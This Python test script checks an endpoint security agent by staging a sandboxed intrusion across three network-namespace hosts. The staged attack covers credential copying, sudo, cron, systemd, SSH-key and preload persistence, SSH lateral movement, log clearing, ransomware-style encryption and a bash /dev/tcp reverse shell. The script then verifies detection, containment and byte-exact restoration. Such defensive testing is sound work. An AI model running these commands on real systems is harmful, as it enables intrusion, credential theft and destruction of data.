#!/usr/bin/env python3
# proves: a scripted intrusion on three hosts is seen, contained by the host itself, removed and restored to the byte, also while it is cut off
# builds: kagari-agent
# pypi: asyncssh==2.22.0
# apt: unshare=util-linux nsenter=util-linux ip=iproute2 nft=nftables mkfs.ext4=e2fsprogs ssh=openssh-client curl
"""Three hosts in network namespaces: a server, a victim with an agent, another host that attacks.

    prove_intrusion.py [--agent PROGRAM] [--unhurried]

An intrusion by harmless programs: download and run, password hashes copied, sudo, cron, systemd, keys and preload as footholds, another host entered by
SSH, a reverse shell, a log cleared, 500 documents encrypted. Then, in this order: each must be an alert; the reverse shell must be ended and the
encryption held by the host itself, as its policy lets it; every document must come back byte for byte; orders isolate the host, remove the footholds
and what was brought, and give the log back; undoing an order must give back exactly what was there; in the end nothing may be left that was not
there before. Then the network is cut, the agent killed and started anew, and the encryption done again: it must be contained without the server, and
no record may be missing when the network is there again. --unhurried leaves out the times, for debug programs.

Needs root and a kernel that takes BPF programs. What it changes lies in overlays and on a loop device; traffic stays in namespaces that it makes.
"""
import argparse
import json
import os
import pathlib
import re
import signal
import subprocess
import sys
import threading
import time

import service
from intrusion import hosts
from proof import ROOT, end, stop

SERVER, VICTIM, OTHER = "10.77.0.1", "10.77.0.2", "10.77.0.3"
WEB, SHELL, SSH, AGENTS = 8000, 4444, 2222, 7443
STATE = "/var/lib/kagari-agent"
DOCUMENTS = 500
REVERSE_SHELL = "aa56c009-c180-4ce5-8c5c-2ea04bf78b68"
BULK = "7c2b5a0e-94f1-4d83-8a6f-2e9d0b7c1a35"
HOME = os.path.expanduser("~")
PLACES = ("/etc", HOME + "/.ssh", "/home", "/usr/local/bin", "/var/log", "/var/spool", "/srv", "/tmp")
# What is done, and the rule that must tell it.
ACTS = [
    ("download and run", "d1244a43-62f3-45a0-b555-46504eb8a73d",
     f"mkdir -p /tmp/.cache && curl -s -o /tmp/.cache/updater http://{OTHER}:{WEB}/updater && "
     "chmod +x /tmp/.cache/updater && /tmp/.cache/updater"),
    ("password hashes copied", "dd2f0219-28b6-4018-b879-1b0f2c0cdc88",
     "cp /etc/shadow /tmp/.cache/s"),
    ("sudo for everybody", "e056a5df-3318-4d93-8702-6833aeba9918",
     "echo 'ann ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/backup"),
    ("cron foothold", "cfeb583d-da01-4c50-82a2-bb2cc3d88734",
     "echo '* * * * * root /tmp/.cache/updater' > /etc/cron.d/logrotated"),
    ("systemd foothold", "0fb04763-796c-4759-a64e-3c529634bc02",
     "printf '[Service]\\nExecStart=/tmp/.cache/updater\\n' > /etc/systemd/system/updater.service"),
    ("key foothold", "595a3b75-6466-4b87-bd8e-d9d802b01214",
     "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPs6HuyIVhVxl5ZFE3gb0RhBm6mVrxB8rp1Ex4aJbMq0 x' >> ~/.ssh/authorized_keys"),
    ("preload foothold", "d21897f8-9167-4009-a155-6957c8927d21",
     "echo /usr/local/lib/libnone.so > /etc/ld.so.preload"),
    ("another host entered", "df96178e-80a9-5a1b-b2ce-fa67fb95048d",
     f"ssh -i ~/key -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -p {SSH} root@{OTHER} id"),
    ("log cleared", "5dad717a-7314-47f8-9def-7f9232e22936", "bash -c ': > /var/log/auth.log'"),
]
CONTAINMENT = [
    {"name": "end reverse shells", "rules": [REVERSE_SHELL], "action": "kill_processes"},
    {"name": "hold encryptors", "rules": [BULK], "action": "suspend_processes"},
    {"name": "give documents back", "rules": [BULK], "action": "restore_files"},
]


class Proof:
    def __init__(self, options):
        self.hurried = not options.unhurried
        self.patience = 30 if self.hurried else 180
        self.agent_program = pathlib.Path(options.agent).resolve()
        if not self.agent_program.is_file():
            stop(f"there is no program {self.agent_program}; build the product kagari-agent")
        self.home = hosts.folder("intrusion")
        self.wrong, self.seen, self.latest = [], {}, 0.0

    def must(self, sentence, holds):
        print(f"  {'' if holds else 'NOT: '}{sentence}", flush=True)
        if not holds:
            self.wrong.append(sentence)

    # What there is

    def build(self):
        switch = hosts.make_switch(SERVER)
        self.server = service.Service(
            service.program_of_proof(), self.home, "--agents", f"{SERVER}:{AGENTS}").start()
        self.victim = hosts.Host("victim", VICTIM, self.home, switch)
        self.other = hosts.Host("other", OTHER, self.home, switch)
        place = self.home / "attacker"
        (place / "files").mkdir(parents=True)
        for name, source in (("updater", "/bin/true"), ("encrypt.py", ROOT / "Tests/Judges/intrusion/encrypt.py")):
            (place / "files" / name).write_bytes(pathlib.Path(source).read_bytes())
        hosts.run("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(place / "key"))
        # The other host's /tmp is its own; this process's is reached by what is handed over.
        target = self.other.path("/opt/attacker")
        subprocess.run(["cp", "-r", place, target], check=True)
        script = self.other.path("/opt/other.py")
        script.write_bytes((ROOT / "Tests/Judges/intrusion/other.py").read_bytes())
        self.other.start(sys.executable, "/opt/other.py", "/opt/attacker", WEB, SHELL, SSH)
        if not service.wait_for((target / "ready").exists, 30):
            stop("the other host does not get ready")
        self.attacker = target
        self.furnish(place)

    def furnish(self, place):
        """The victim: a user, keys, a log, and documents on a mount of their own."""
        put = self.victim.path
        put(HOME + "/.ssh").mkdir(mode=0o700, exist_ok=True)
        (put(HOME + "/.ssh") / "authorized_keys").write_text("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMine admin\n")
        put(HOME + "/key").write_bytes((place / "key").read_bytes())
        put(HOME + "/key").chmod(0o600)
        for folder in ("sudoers.d", "cron.d", "systemd/system"):
            (put("/etc") / folder).mkdir(parents=True, exist_ok=True)
        put("/var/log/auth.log").write_text("".join(f"Nov 28 12:00:{n % 60:02} victim sshd[{n}]: ok\n" for n in range(2000)))
        self.victim.must("mkdir", "-p", "/srv/vault", STATE)
        image = self.home / "vault.img"
        with open(image, "wb") as file:
            file.truncate(256 << 20)
        hosts.run("mkfs.ext4", "-q", str(image))
        # Made outside, mounted inside: the device is found by its number.
        device = subprocess.run(["losetup", "--find", "--show", image], capture_output=True, text=True, check=True).stdout.strip()
        self.victim.must("mount", device, "/srv/vault")
        # Goes with its last mount.
        subprocess.run(["losetup", "--detach", device], check=False)
        vault = put("/srv/vault")
        for number in range(DOCUMENTS):
            path = vault / f"Offer {number:03}.{('docx', 'pdf', 'jpg', 'xlsx')[number % 4]}"
            path.write_bytes(os.urandom(2_000 + number * 97))
            path.chmod((0o600, 0o640, 0o644)[number % 3])
            os.chown(path, 1000 + number % 5, 1000)
            os.setxattr(path, "user.origin", str(number).encode())
            os.utime(path, ns=(10**18, 10**18 + number * 1_234_567))

    def ask(self, *words, code=0):
        done = subprocess.run(
            [self.server.program, *words, "--server", f"http://127.0.0.1:{self.server.console}",
             "--key-file", self.server.data / "keys/local.api-key"], capture_output=True, text=True, timeout=180, check=False)
        if code is not None and done.returncode != code:
            stop(f"kagari {' '.join(map(str, words[:2]))} ended with {done.returncode}: {done.stderr[-400:]}")
        return done.stdout

    def order(self, action, outcome="done", *flags):
        text = self.ask("agents", "order", f"main/{self.agent}", json.dumps(action), *flags, code=None)
        answer = json.loads(text) if text.startswith("{") else {"outcome": text.strip() or "none"}
        if answer["outcome"] != outcome:
            print(f"    {action['kind']}: {json.dumps(answer)[:600]}", flush=True)
        return answer

    def start_agent(self):
        with open(self.home / "agent.log", "ab") as log:
            begun = log.tell()
            self.running = self.victim.start(
                self.agent_program, "run", "--state", STATE, "--sense", "--act", "--watch", "/srv/vault",
                "--copies", "/srv/vault", "--copies", "/var/log", stdout=log, stderr=log)
        return lambda: (self.home / "agent.log").read_bytes()[begun:].decode(errors="replace")

    def watch(self):
        token = re.search(r"kgj_\S+", self.ask("agents", "join-token", "main")).group(0)
        done = self.victim.must(
            self.agent_program, "enrol", "--server", f"{SERVER}:{AGENTS}", "--token", token, "--state", STATE)
        self.agent = re.search(r"h-[0-9a-f]+", done).group(0)
        policy = self.home / "policy.json"
        policy.write_text(json.dumps({"containment": CONTAINMENT}))
        self.ask("agents", "policy", "main", "--set", policy, "--rules", ROOT / "Content/rules/linux",
                 "--mappings", ROOT / "Content/mappings/kagari-endpoint.yml")
        said = self.start_agent()
        if not service.wait_for(lambda: "policy 1 is in force" in said() and "connected to" in said(), 120):
            stop(f"the agent does not watch: {said()[-600:]}")
        self.baseline = f"{STATE}/baseline"
        self.victim.path(self.baseline).write_text(
            self.victim.must(self.agent_program, "inventory", "--json", "--quick"))
        reader = self.server.admin().ask("POST", "/api/v1/keys/main", {
            "name": "proof", "tenants": ["main"], "permissions": ["read alerts", "read orders"]})
        self.reader = service.Caller(self.server, "proof", key=reader["secret"])
        threading.Thread(target=self.look, daemon=True).start()

    def look(self):
        """When each alert was first seen in the API."""
        while True:
            try:
                page = self.reader.ask("GET", "/api/v1/alerts?tenant=main&limit=500")
            except (OSError, RuntimeError, ValueError):
                # Throttled, or stopping: asked again.
                time.sleep(0.5)
                continue
            now = time.time()
            for alert in page["alerts"]:
                if alert["id"] not in self.seen:
                    self.seen[alert["id"]] = (now, alert)
            # As often as prove load asks; what it adds to a latency is in the figure.
            time.sleep(0.06)

    def alerts(self, rule):
        return [one for one in list(self.seen.values()) if one[1]["rule"] == rule]

    def orders(self, kind):
        """Those that the host gave itself."""
        page = self.reader.ask("GET", "/api/v1/orders?tenant=main&limit=100")
        return [one for one in page["orders"]
                if one["id"].startswith("standing-") and one["action"].get("kind") == kind]

    # What happens

    def intrude(self):
        for name, rule, command in ACTS:
            done = self.victim.run("bash", "-c", command)
            if done.returncode:
                stop(f"{name} could not be done: {done.stderr[-300:]}")
            self.must(f"an alert tells: {name}", service.wait_for(lambda rule=rule: self.alerts(rule), self.patience, 0.05))
        landed = self.attacker / "landed"
        self.must("the other host was entered", landed.exists())

    def reverse_shell(self):
        shells = self.attacker / "shells"
        # A terminal it has none; what matters is who talks to whom.
        self.victim.start("bash", "-c", f"bash -i >& /dev/tcp/{OTHER}/{SHELL} 0>&1",
                          stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        begun = time.time()
        ended = service.wait_for(lambda: shells.exists() and "ended" in shells.read_text(), 60, 0.02)
        self.must("the host ended the reverse shell by itself", ended)
        return (float(shells.read_text().split("\n")[1].split()[0]) if ended else time.time()) - begun

    def encrypt(self, before):
        """- Returns: the encryptor, and the seconds from its start until it was held."""
        self.victim.must("curl", "-s", "-o", "/tmp/.cache/encrypt.py", f"http://{OTHER}:{WEB}/encrypt.py")
        return self.encrypt_again(before)

    def encrypt_again(self, before):
        encryptor = self.victim.start("python3", "/tmp/.cache/encrypt.py", "/srv/vault")
        begun = time.time()
        stat = pathlib.Path(f"/proc/{encryptor.pid}/stat")
        held = service.wait_for(lambda: stat.read_text().rsplit(")", 1)[1].split()[0] == "T", 60, 0.01)
        spent = time.time() - begun
        self.must("the host held the encryption by itself", held)
        damaged = len(list(self.victim.path("/srv/vault").glob("*.locked")))
        print(f"    {damaged} documents were encrypted by then", flush=True)

        def whole():
            now = self.victim.state("/srv")
            return all(now.get(path) == one for path, one in before.items() if path.startswith("/srv"))
        restored = service.wait_for(whole, 60, 0.5)
        self.must(f"all {DOCUMENTS} documents are as they were, to the byte", restored and damaged >= 20)
        start = int(stat.read_text().rsplit(")", 1)[1].split()[19])
        return encryptor, {"pid": encryptor.pid, "start": start}, spent

    def eradicate(self, before, encryptor, identity):
        self.must("the encryptor is ended by an order",
                  self.order({"kind": "kill_processes", "processes": [identity], "tree": True})["outcome"] == "done")
        encryptor.wait(30)
        self.must("the other host is reached before", self.victim.reaches(OTHER, WEB))
        isolation = self.order({"kind": "isolate_host"})
        self.must("the host is isolated: it reaches its server and nobody else",
                  isolation["outcome"] == "done" and not self.victim.reaches(OTHER, WEB)
                  and self.victim.reaches(SERVER, AGENTS))
        dirty = self.victim.state(*PLACES)
        action = self.victim.run(
            self.agent_program, "inventory", "--diff", self.baseline, "--as-action", "--quick").stdout
        if not action.startswith("{"):
            return self.must("the inventory names the footholds", False)
        action = json.loads(action.splitlines()[0])
        removal = self.order(action)
        self.must("the footholds are removed by an order", removal["outcome"] == "done" and self.is_clean())
        back = self.order({"kind": "undo", "order": removal["order"]}, "undone")
        self.must("undone, every byte of them is there again",
                  back.get("restored") and not hosts.difference(dirty, self.victim.state(*PLACES)))
        self.must("removed again", self.order(action)["outcome"] == "done" and self.is_clean())
        brought = [str(path) for path in self.victim.state("/tmp", "/srv") if path not in before]
        self.must("what was brought and left is taken away",
                  self.order({"kind": "quarantine_file", "paths": brought})["outcome"] == "done")
        cleaner = self.process_of("5dad717a-7314-47f8-9def-7f9232e22936")
        self.must("the cleared log is given back",
                  self.order({"kind": "restore_files", "processes": [cleaner]})["outcome"] == "done")
        self.order({"kind": "undo", "order": isolation["order"]}, "undone")
        self.must("released, it reaches the other host again", self.victim.reaches(OTHER, WEB))
        # Others' lines stood in it too: what was taken out of it is a change of today.
        shared = HOME + "/.ssh/authorized_keys"
        left = hosts.difference(before, self.victim.state(*PLACES), untimed={shared})
        for sentence in left[:10]:
            print(f"    {sentence}", flush=True)
        self.must("the host is what it was before, to the byte", not left)

    def is_clean(self):
        done = self.victim.run(self.agent_program, "inventory", "--diff", self.baseline, "--quick")
        if done.returncode:
            print(f"    left: {done.stdout[:400]} {done.stderr[:200]}", flush=True)
        return done.returncode == 0

    def process_of(self, rule):
        """Whoever did what a rule fired on, by number and start."""
        _, alert = self.alerts(rule)[0]
        whole = self.reader.ask("GET", f"/api/v1/alerts/main/{alert['id']}")
        _, pid, start = re.search(r"\b([0-9a-f]{16})-(\d+)-(\d+)\b", json.dumps(whole)).groups()
        return {"pid": int(pid), "start": int(start)}

    def cut_off(self, before):
        hosts.run("ip", "link", "set", self.victim.wire, "down")
        self.running.send_signal(signal.SIGKILL)
        self.running.wait()
        said = self.start_agent()
        if not service.wait_for(lambda: "sensing in tier" in said() and "copies of /srv/vault" in said(), 60):
            stop(f"the agent does not come back: {said()[-500:]}")
        self.victim.path("/tmp/.cache").mkdir(exist_ok=True)
        self.victim.path("/tmp/.cache/encrypt.py").write_bytes((ROOT / "Tests/Judges/intrusion/encrypt.py").read_bytes())
        known = len(self.orders("suspend_processes"))
        encryptor, _, spent = self.encrypt_again(before)
        self.must("the server does not know of it yet", len(self.orders("suspend_processes")) == known)
        hosts.run("ip", "link", "set", self.victim.wire, "up")
        told = service.wait_for(lambda: len(self.orders("suspend_processes")) > known, 150, 0.5)
        self.must("it does when the network is there again, with the receipt", told)

        def none_missing():
            return "no gap" in self.ask("agents", "gaps", f"main/{self.agent}", code=None)
        self.must("no record is missing", service.wait_for(none_missing, 60, 1))
        hosts.end(encryptor)
        return spent

    def latency(self):
        """Seconds from an event to its alert in the API: of all alerts but those of the time without a network."""
        waits = []
        for seen, alert in list(self.seen.values()):
            if alert["rule"].startswith("kagari-") or seen > self.latest or not alert.get("time"):
                continue
            happened = service_time(alert["time"])
            waits.append(seen - happened)
        waits.sort()
        return (waits[min(len(waits) - 1, int(len(waits) * 0.99))], len(waits)) if waits else (0, 0)


def service_time(text):
    whole, _, rest = text.rstrip("Z").partition(".")
    return time.mktime(time.strptime(whole, "%Y-%m-%dT%H:%M:%S")) - time.timezone + float("0." + (rest or "0"))


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--agent", default=os.environ.get(
        "KAGARI_AGENT", ROOT / ".build-release/release/kagari-agent"))
    parser.add_argument("--unhurried", action="store_true")
    options = parser.parse_args()
    if os.geteuid() != 0:
        stop("needs root, to load programs into the kernel and to make namespaces")
    probe = subprocess.run([options.agent, "probe", "--json"], capture_output=True, text=True, check=False)
    if json.loads(probe.stdout or "{}").get("tier", "C") == "C":
        stop("this kernel takes no BPF programs")
    proof = Proof(options)
    proof.build()
    before = proof.victim.state(*PLACES)
    proof.watch()
    proof.intrude()
    shell = proof.reverse_shell()
    encryptor, identity, held = proof.encrypt(before)
    proof.eradicate(before, encryptor, identity)
    proof.must("each standing order has its receipt on the server",
               all(service.wait_for(lambda kind=kind: proof.orders(kind), 30)
                   for kind in ("kill_processes", "suspend_processes", "restore_files")))
    proof.latest = time.time()
    late, count = proof.latency()
    alone = proof.cut_off(before)
    proof.running.send_signal(signal.SIGTERM)
    proof.running.wait(60)
    proof.server.stop()
    for check in ("ledger", "archive"):
        done = subprocess.run([proof.server.program, check, "verify", "--data", proof.server.data],
                              capture_output=True, text=True, check=False)
        proof.must(f"the {check} holds", done.returncode == 0)
    if proof.hurried:
        proof.must("event → alert in the API within 2 s", late <= 2)
        proof.must("contained within 5 s of the start", max(shell, held, alone) <= 5)
    end(not proof.wrong, (
        f"{len(ACTS) + 2} acts, event → alert p99 {late:.2f} s of {count}; contained {shell:.2f} s (shell), {held:.2f} s (encryption), "
        f"{alone:.2f} s (cut off) after their start; {len(proof.wrong)} not as it should be"))


if __name__ == "__main__":
    if not os.environ.get("KAGARI_IN_NAMESPACE"):
        os.environ["KAGARI_IN_NAMESPACE"] = "1"
        os.execvp("unshare", ["unshare", "--net", "--mount", "--propagation", "private", sys.executable,
                              *sys.argv])
    main()
